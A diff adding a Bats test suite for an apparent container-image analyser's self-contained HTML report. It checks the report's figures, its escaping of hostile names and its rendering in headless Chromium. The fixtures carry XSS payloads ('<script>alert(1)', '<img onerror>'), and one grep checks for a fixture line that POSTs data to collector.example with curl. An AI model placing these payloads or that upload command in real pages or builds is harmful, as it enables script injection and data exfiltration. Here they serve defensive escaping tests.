@@ -1,0 +1,161 @@
+#!/usr/bin/env bats
+# fathom report (and --report in CI mode): one self-contained HTML file. Its
+# figures are the CI report's; it holds plain tables without JavaScript and
+# fetches nothing; Debian's headless Chromium opens it (tests/cli/
+# report_browser.py, over the DevTools protocol): no console error, the
+# treemap zooms by mouse and keyboard, a layer shows its changes, tables
+# sort, light and dark schemes, a screenshot that is not blank.
+load helpers
+
+IMG=$SHARED/test-docker-image.tar
+
+setup() {
+	R=$BATS_TEST_TMPDIR/report.html
+}
+
+# figures FILE: "id=data-value" for each header figure, and the row counts
+figures() {
+	python3 - "$1" <<'EOF'
+import html.parser, sys
+class P(html.parser.HTMLParser):
+    def __init__(self):
+        super().__init__(); self.table = None; self.rows = {}; self.vals = {}
+    def handle_starttag(self, tag, attrs):
+        a = dict(attrs)
+        if tag == "dd" and "data-value" in a: self.vals[a["id"]] = a["data-value"]
+        if tag == "table": self.table = a.get("id")
+        if tag == "tr" and self.table and self.table != "rules": self.rows[self.table] = self.rows.get(self.table, 0) + 1
+p = P(); p.feed(open(sys.argv[1], encoding="utf-8").read())
+for k in sorted(p.vals): print("%s=%s" % (k, p.vals[k]))
+for k in sorted(p.rows): print("rows.%s=%d" % (k, p.rows[k] - 1))
+EOF
+}
+
+@test "report: the figures are the CI report's, the tables its lists" {
+	[ -f "$IMG" ] || skip "no shared images"
+	run --separate-stderr "$FATHOM" report "$IMG" -o "$R"
+	[ "$status" -eq 0 ] && [ -z "$output" ] || { echo "$status $stderr"; return 1; }
+	figures "$R" >"$BATS_TEST_TMPDIR/fig"
+	"$FATHOM" --ci --ci-format json "$IMG" >"$BATS_TEST_TMPDIR/ci.json" || true
+	python3 - "$BATS_TEST_TMPDIR/ci.json" <<'EOF' >"$BATS_TEST_TMPDIR/want"
+import json, sys
+d = json.load(open(sys.argv[1]))
+print("efficiency=%r" % d["efficiency"])
+print("files=405")
+print("layers=14")
+print("reclaimable=%d" % d["reclaimableBytes"])
+print("size=%d" % d["sizeBytes"])
+print("user-wasted=%r" % d["userWastedPercent"])
+print("wasted=%d" % d["wastedBytes"])
+print("rows.advice=%d" % len(d["advice"]))
+print("rows.inefficient=%d" % len(d["inefficientFiles"]))
+print("rows.layer-table=14")
+EOF
+	diff -u "$BATS_TEST_TMPDIR/want" "$BATS_TEST_TMPDIR/fig"
+	# dive's numbers to the last digit, as the CI report has them
+	grep -q 'id="efficiency" data-value="0.9844212134184309"' "$R"
+	grep -q 'id="wasted" data-value="32025"' "$R"
+	grep -q 'id="digest">sha256:75ae28b8ebf89b203319069ddcbecdf5c3838503bbebc0d0d85e4b8589c5de3a<' "$R"
+	# the files count: what `fathom files` lists that is not a directory
+	[ "$(grep -c . <("$FATHOM" files "$IMG" | awk -F'\t' '$2 != "d"'))" -eq 405 ]
+}
+
+@test "report: --report in CI mode adds the rules; the gate's exit status stays" {
+	[ -f "$IMG" ] || skip "no shared images"
+	run env CI=true "$FATHOM" "$IMG" --report "$R"
+	[ "$status" -eq 1 ]
+	[[ "$output" == *"FAIL [pass:2 fail:1 skip:4]"* ]]
+	grep -q 'id="verdict">FAIL \[pass:2 fail:1 skip:4\]<' "$R"
+	grep -q '<tr data-rule="highestUserWastedPercent"><td class="FAIL">FAIL</td>' "$R"
+	grep -q '<tr data-rule="lowestEfficiency"><td class="PASS">PASS</td>' "$R"
+	# without CI: no rules section
+	"$FATHOM" report "$IMG" -o "$BATS_TEST_TMPDIR/plain.html"
+	! grep -q 'id="rules"' "$BATS_TEST_TMPDIR/plain.html"
+	run "$FATHOM" --ci "$IMG" --report -
+	[ "$status" -eq 2 ] && [[ "$output" == *"--report - and another report would both go to stdout"* ]]
+}
+
+@test "report: one file that fetches nothing; plain HTML tables; hostile names stay text" {
+	cat >"$BATS_TEST_TMPDIR/evil.desc" <<'EOF'
+layer "RUN echo </script><script>alert(1)</script>"
+dir "a</script>/"
+file "a</script>/<img src=x onerror=alert(2)>" size=5000
+file "b\xff\x01\n" size=100
+EOF
+	python3 "$ROOT/tests/fixtures/mkimage.py" "$BATS_TEST_TMPDIR/evil.desc" --format docker-legacy -o "$BATS_TEST_TMPDIR/evil.tar"
+	"$FATHOM" report "$BATS_TEST_TMPDIR/evil.tar" -o - >"$R"
+	# nothing to fetch: no src, href, url() or @import outside the data (the
+	# names hold "src="), one script of data and one of code
+	sed '/<script type="application\/json" id="data">/d' "$R" >"$BATS_TEST_TMPDIR/nodata.html"
+	! grep -Eiq 'src=|href=|url\(|@import|<link' "$BATS_TEST_TMPDIR/nodata.html" ||
+		{ grep -Eio '.{30}(src=|href=|url\(|@import|<link).{30}' "$BATS_TEST_TMPDIR/nodata.html"; return 1; }
+	! grep -q '<img' "$R"
+	[ "$(grep -c '<script' "$R")" -eq 2 ]
+	[ "$(grep -c '</script>' "$R")" -eq 2 ]
+	grep -q '<td class="p">RUN echo &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;</td>' "$R"
+	figures "$R" | grep -q '^rows.layer-table=1$'
+	# the same image's report, opened with JavaScript off, keeps its tables
+	if command -v chromium >/dev/null; then
+		timeout 60 chromium --headless --no-sandbox --disable-gpu --blink-settings=scriptEnabled=false \
+			--dump-dom "file://$R" 2>/dev/null >"$BATS_TEST_TMPDIR/dom.html" || true
+		[ -s "$BATS_TEST_TMPDIR/dom.html" ] || skip "chromium cannot start here"
+		grep -q '<table id="layer-table">' "$BATS_TEST_TMPDIR/dom.html"
+		! grep -q 'class="cell"' "$BATS_TEST_TMPDIR/dom.html"
+	fi
+}
+
+@test "report in Chromium: no console error; treemap zoom by mouse and keyboard; layers; sorting; dark mode" {
+	[ -f "$IMG" ] || skip "no shared images"
+	CI=true "$FATHOM" "$IMG" --report "$R" >/dev/null || true
+	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R" "$BATS_TEST_TMPDIR/shot.png"
+	[ "$status" -ne 77 ] || skip "chromium or python3-websocket cannot run here: $output"
+	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	python3 - "$output" <<'EOF'
+import json, sys
+o = json.loads(sys.argv[1])
+assert o["errors"] == [], o["errors"]
+assert o["ready"] and o["cells"] == 5, o
+assert o["dir"] == "/bin" and o["zoomKey"] == "/bin" and o["zoomOut"] == "/", o
+assert o["zoom"] == "/bin" and o["crumbs"] == 2 and o["zoomCells"] >= 1 and o["zoomTop"] == "/", o
+assert o["layer"].startswith("Layer 13: 6.4 kB") and "chmod +x /root/saved.txt" in o["layer"], o["layer"]
+assert "0 added, 1 modified, 0 removed" in o["layer"], o["layer"]
+assert o["sorted"] == ["/root/saved.txt", "/root/example/somefile1.txt"], o["sorted"]
+assert o["light"] == "rgb(255, 255, 255)" and o["dark"] != o["light"], o
+assert o["png"][1] > 64, o["png"]
+EOF
+	[ "$(head -c 8 "$BATS_TEST_TMPDIR/shot.png" | od -An -c | tr -d ' ')" = '211PNG\r\n032\n' ]
+}
+
+@test "report in Chromium: hostile names, an ONBUILD image, a streamed image" {
+	cat >"$BATS_TEST_TMPDIR/evil.desc" <<'EOF'
+layer "RUN echo </script><script>alert(1)</script>"
+dir "a</script>/"
+file "a</script>/<img src=x onerror=alert(2)>" size=5000
+file "b\xff\x01\n" size=100
+EOF
+	python3 "$ROOT/tests/fixtures/mkimage.py" "$BATS_TEST_TMPDIR/evil.desc" --format docker-legacy -o "$BATS_TEST_TMPDIR/evil.tar"
+	"$FATHOM" report - -o "$R" <"$BATS_TEST_TMPDIR/evil.tar"
+	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R"
+	[ "$status" -ne 77 ] || skip "chromium or python3-websocket cannot run here: $output"
+	[ "$status" -eq 0 ] || { echo "$output"; return 1; }
+	python3 -c 'import json, sys
+o = json.loads(sys.argv[1])
+assert o["errors"] == [] and o["ready"], o
+# "a</script>/..." is the directory "a<" holding "script>"
+assert o["dir"] == "/a<" and o["zoom"] == "/a<", o
+assert "/a</script>/<img src=x onerror=alert(2)>" in o["layer"], o' "$output"
+	"$FATHOM" report "$FIX/advice-onbuild.oci-dir" -o "$R"
+	grep -q '<td class="FAIL">high</td><td class="p">RUN curl -s -X POST https://collector.example/upload' "$R"
+	run /usr/bin/python3 "$ROOT/tests/cli/report_browser.py" "$R"
+	[ "$status" -eq 0 ] && python3 -c 'import json, sys; o = json.loads(sys.argv[1]); assert o["errors"] == [] and o["ready"], o' "$output"
+}
+
+@test "report: errors are one line, exit status 2, no file left" {
+	run --separate-stderr "$FATHOM" report "$FIX/basic.oci-dir"
+	[ "$status" -eq 2 ] && [[ "$stderr" == *"-o FILE is missing"* ]]
+	run --separate-stderr "$FATHOM" report "$FIX/basic.oci-dir" -o "$BATS_TEST_TMPDIR/no/such/dir/r.html"
+	[ "$status" -eq 2 ] && [ "$(printf '%s\n' "$stderr" | wc -l)" -eq 1 ]
+	run --separate-stderr "$FATHOM" report "$FIX/err-truncouter.docker-legacy.tar" -o "$R"
+	[ "$status" -eq 2 ] && [ ! -e "$R" ]
+	[ -z "$(ls -A "$BATS_TEST_TMPDIR" | grep -v '^bats')" ] || ls -A "$BATS_TEST_TMPDIR"
+}
